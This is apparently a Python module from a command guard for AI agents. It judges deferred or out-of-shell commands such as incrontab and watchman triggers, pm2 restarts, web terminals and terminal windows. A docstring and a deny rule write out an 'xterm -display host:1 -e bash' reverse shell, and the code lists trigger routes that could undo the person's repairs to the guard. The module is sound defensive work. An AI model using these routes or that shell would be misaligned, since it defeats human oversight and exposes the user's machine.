"""Programs that run a command later, or somewhere else than the agent's shell: a file watcher's trigger
(incrontab, watchman), a process manager's restart schedule (pm2 --cron-restart), a terminal asked to open a
window running a command (`alacritty msg create-window -e CMD`, `xterm -e CMD`).

The command is judged as if it ran now. A watcher on one of the guard's places asks at least, and is judged as
a change to that place (the protection rule denies): each time the person restores the hook settings, the
trigger runs again. Which option opens a window with a command is data (taxonomy.yaml `window_commands`)."""
from __future__ import annotations

import posixpath
import shlex
from typing import TYPE_CHECKING

from ..model import BlastRadius
from .findings import Finding, allow, ask, deny
from .words import DYN, Word

if TYPE_CHECKING:  # pragma: no cover
    from .invocation import Invocation, Run

_RUNNERS = {".sh": "sh", ".bash": "bash", ".js": "node", ".mjs": "node", ".cjs": "node", ".ts": "npx tsx",
            ".py": "python3", ".rb": "ruby", ".pl": "perl", ".php": "php"}


def incrontab(run: "Run", inv: "Invocation") -> list[Finding]:
    """incrontab - (or FILE): each `PATH MASK COMMAND` line watches PATH and runs COMMAND on its events."""
    args = inv.args
    if any(a in ("-l", "--list", "-d", "--reload") for a in args):
        return [allow("incrontab lists or reloads the watch table", "process", rule="triggers.incron")]
    if any(a in ("-r", "--remove", "-e", "--edit") for a in args):
        return [ask("incrontab removes or edits the watch table", "process", BlastRadius.MEDIUM, "triggers.incron")]
    stream = run.stdin_source(inv.cmd)
    text = stream.text if stream.kind == "text" else None
    if text is None:
        return [ask("incrontab installs file-watch jobs guardtui cannot read: they run commands later, unattended",
                    "process", BlastRadius.MEDIUM, "triggers.incron")]
    for line in text.splitlines():
        parts = line.split(None, 2)
        if len(parts) == 3 and not line.lstrip().startswith("#"):
            _watched(run, inv, parts[0])
            if DYN not in parts[2]:
                run.nested(parts[2].replace("$@", parts[0]).replace("$#", "file").replace("$$", "$"), inv,
                           "incron job")
    return [ask("incrontab installs file-watch jobs (they run commands later, unattended)", "process",
                BlastRadius.MEDIUM, "triggers.incron")]


def watchman(run: "Run", inv: "Invocation") -> list[Finding]:
    """watchman watch DIR / watchman -- trigger DIR NAME PATTERNS -- CMD: CMD runs whenever DIR changes."""
    words = [w.value for w in inv.words]
    if words[:1] == ["--"]:
        words, ws = words[1:], inv.words[1:]
    else:
        ws = inv.words
    positionals = [w for w in words if not w.startswith("-")]
    verb = positionals[0] if positionals else ""
    if verb in ("watch", "watch-project", "trigger") and len(positionals) > 1:
        _watched(run, inv, positionals[1])
    if verb == "trigger" and words.count("--") >= 1:
        command = ws[words.index("--") + 1:]
        if command:
            run.nested(" ".join(shlex.quote(w.value) for w in command), inv, "watchman trigger")
        return [allow("watchman trigger runs a command judged as it is, whenever the watched files change", "process",
                      rule="triggers.watchman")]
    if verb in ("watch", "watch-project", "watch-list", "trigger-list", "find", "query", "since", "clock",
                "get-sockname", "version", "list-capabilities", "log-level", "trigger-del", "watch-del",
                "watch-del-all", "shutdown-server", "get-config", "debug-ageout"):
        return [allow(f"watchman {verb} watches or lists files", "process", rule="triggers.watchman")]
    return []


def pm2(run: "Run", inv: "Invocation") -> list[Finding]:
    """pm2 start SCRIPT|PROGRAM [-- ARGS]: runs it now and keeps it running (`--cron-restart` re-runs it on a
    schedule, `pm2 save` brings it back after a reboot): judged as if it ran now."""
    words = inv.words
    values = {"--name", "-n", "--cron-restart", "--cron", "-c", "--interpreter", "--watch-delay", "-i", "--instances",
              "--max-memory-restart", "--log", "-l", "-o", "--output", "-e", "--error", "--namespace", "--cwd",
              "--restart-delay", "--env", "--exp-backoff-restart-delay", "--max-restarts", "--kill-timeout",
              "--node-args", "--interpreter-args", "--time"}
    positionals: list[Word] = []
    rest: list[Word] = []
    i = 0
    while i < len(words):
        v = words[i].value
        if v == "--":
            rest = words[i + 1:]
            break
        if v in values:
            i += 2
            continue
        if not v.startswith("-"):
            positionals.append(words[i])
        i += 1
    verb = positionals[0].value if positionals else ""
    if verb in ("ls", "list", "l", "status", "logs", "log", "show", "describe", "info", "monit", "jlist", "prettylist",
                "save", "dump", "ping", "env", "report", "--version", "-v"):
        return [allow(f"pm2 {verb} lists or saves what it runs", "process", rule="triggers.pm2")]
    if verb not in ("start", "restart", "reload") or len(positionals) < 2:
        return [ask(f"pm2 {verb} changes which processes run", "process", BlastRadius.MEDIUM, "triggers.pm2")] \
            if verb in ("stop", "delete", "del", "kill", "flush", "startup", "unstartup", "resurrect") else []
    target = positionals[1].value
    if verb != "start" or target.endswith((".json", ".yaml", ".yml", ".config.js", ".config.cjs")):
        return []  # an ecosystem file, a process by name: the taxonomy (or the default) judges it
    runner = _RUNNERS.get(posixpath.splitext(target)[1])
    program = f"{runner} {shlex.quote(target)}" if runner else shlex.quote(target)
    run.nested(" ".join([program] + [shlex.quote(w.value) for w in rest]), inv, "pm2 start")
    return [allow("pm2 start runs a program judged as it is, kept running in the background", "process",
                  rule="triggers.pm2")]


# web terminals: the options that take a value, and those that let a visitor type (without one, a read-only view)
_WEB_TERMINALS = {
    "ttyd": ({"-p", "--port", "-i", "--interface", "-U", "--socket-owner", "-c", "--credential", "-H",
              "--auth-header", "-u", "--uid", "-g", "--gid", "-s", "--signal", "-w", "--cwd", "-a", "--url-arg",
              "-t", "--client-option", "-T", "--terminal-type", "-I", "--index", "-b", "--base-path", "-P",
              "--ping-interval", "-f", "--srv-buf-size", "-C", "--ssl-cert", "-K", "--ssl-key", "-A", "--ssl-ca",
              "-m", "--max-clients", "-d", "--debug"}, {"-W", "--writable"}),
    "gotty": ({"-p", "--port", "-a", "--address", "-c", "--credential", "--path", "--title-format", "--tls-crt",
               "--tls-key", "--tls-ca-crt", "--index", "--ws-origin", "--reconnect-time", "--max-connection",
               "--timeout", "--width", "--height", "--config", "--term", "--random-url-length"},
              {"-w", "--permit-write"}),
}


def web_terminal(run: "Run", inv: "Invocation") -> list[Finding]:
    """`ttyd -i lo -p 7682 tail -f logs/x.log`: without -W no visitor can type, so a program that is no shell is a
    read-only web view of its output; the program is judged as it is. Writable, or serving a shell, it is a shell
    share (the taxonomy's shell-share shape, left to decide)."""
    values, writable = _WEB_TERMINALS[inv.name]
    words = inv.words
    i = 0
    while i < len(words) and words[i].value.startswith("-"):
        flag, eq, _ = words[i].value.partition("=")
        if flag in writable or (not flag.startswith("--") and any("-" + c in writable for c in flag[1:])):
            return []
        i += 1 if eq or flag not in values else 2
    command = words[i:]
    if not command or posixpath.basename(command[0].value) in run.tax.shells or \
            posixpath.basename(command[0].value) in ("login", "tmux", "screen", "zellij", "su", "sudo", "ssh", "python",
                                                     "python3", "node", "irb", "psql", "mysql", "guardtui"):
        return []
    run.nested(" ".join(shlex.quote(w.value) for w in command), inv, f"{inv.name} serves")
    return [allow(f"{inv.name} without write access serves a read-only view of {command[0].value}: no visitor can "
                  "type into it", "process", rule="triggers.web-terminal")]


def window_command(run: "Run", inv: "Invocation") -> list[Finding]:
    """`alacritty msg create-window -e CMD`, `xterm -e CMD`, `gnome-terminal -- CMD`: a terminal window runs
    CMD outside the agent's shell; CMD is judged as it is. A window shown on another machine's X display
    (`xterm -display host:1 -e bash`) hands that machine the shell: a reverse shell."""
    options = run.tax.window_commands.get(inv.name, ())
    words = inv.words
    display = next((words[i + 1].value for i, w in enumerate(words[:-1]) if w.value in ("-display", "--display", "-d")),
                   None) or inv.scope.variables.get("DISPLAY")
    host = (display or "").rpartition(":")[0]
    if host and host not in ("localhost", "127.0.0.1", "unix", "::1") and DYN not in host:
        return [deny(f"{inv.name} opens its window on {display}, another machine's display: whoever sits there "
                     "types into the shell it runs here (a reverse shell)", "network", "triggers.remote-display")]
    at = next((i for i, w in enumerate(words) if w.value in options), None)
    if at is None or at + 1 >= len(words):
        return []
    command = words[at + 1:]
    run.nested(" ".join(shlex.quote(w.value) for w in command), inv, f"{inv.name} window")
    return [allow(f"{inv.name} opens a window running a command judged as it is", "process", rule="triggers.window")]


def _watched(run: "Run", inv: "Invocation", path: str) -> None:
    """A watch on PATH: a trigger reacts to every change there (the guard's places: it undoes the person's
    repairs), judged as a change to what is right in it."""
    if DYN in path:
        return
    info = run.path(Word(path, path), inv)
    run.effect(info.path, path, "write", inv.cmd, info.remote, detail="mentioned", members=("*",))
